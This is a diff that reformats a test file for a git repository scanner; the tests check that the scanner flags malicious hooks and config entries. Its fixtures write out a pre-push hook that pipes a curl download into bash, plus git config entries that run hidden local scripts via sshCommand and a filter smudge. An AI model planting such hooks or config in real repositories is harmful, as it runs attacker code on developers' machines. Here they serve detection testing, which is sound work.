@@ -15,7 +15,7 @@ after(() => {
   rmSync(tmp, { recursive: true, force: true });
 });
 
-it('treats git\'s own samples as stock and a changed sample as a payload store', async () => {
+it("treats git's own samples as stock and a changed sample as a payload store", async () => {
   const dir = join(tmp, 'samples');
   mkdirSync(join(dir, '.git', 'hooks'), { recursive: true });
   writeFileSync(join(dir, '.git', 'HEAD'), 'ref: refs/heads/main\n');
@@ -35,7 +35,10 @@ it('rates a live hook that pipes a download into a shell as critical, and names 
   mkdirSync(join(dir, '.git', 'hooks'), { recursive: true });
   writeFileSync(join(dir, '.git', 'HEAD'), 'ref: refs/heads/main\n');
   writeFileSync(join(dir, '.git', 'hooks', 'pre-push'), '#!/bin/sh\ncurl -fsSL https://p.example.invalid/x | bash\n');
-  writeFileSync(join(dir, '.git', 'config'), '[core]\n\tsshCommand = ssh -o ProxyCommand=./x\n[filter "lfs2"]\n\tsmudge = node .git/x.js\n');
+  writeFileSync(
+    join(dir, '.git', 'config'),
+    '[core]\n\tsshCommand = ssh -o ProxyCommand=./x\n[filter "lfs2"]\n\tsmudge = node .git/x.js\n',
+  );
   const report = await scan(dir, { rules: [rule] });
   const hits = findingsOf(report, rule.meta.id);
   assert.equal(hits.find(f => f.location.file === '.git/hooks/pre-push')?.severity, 'critical');
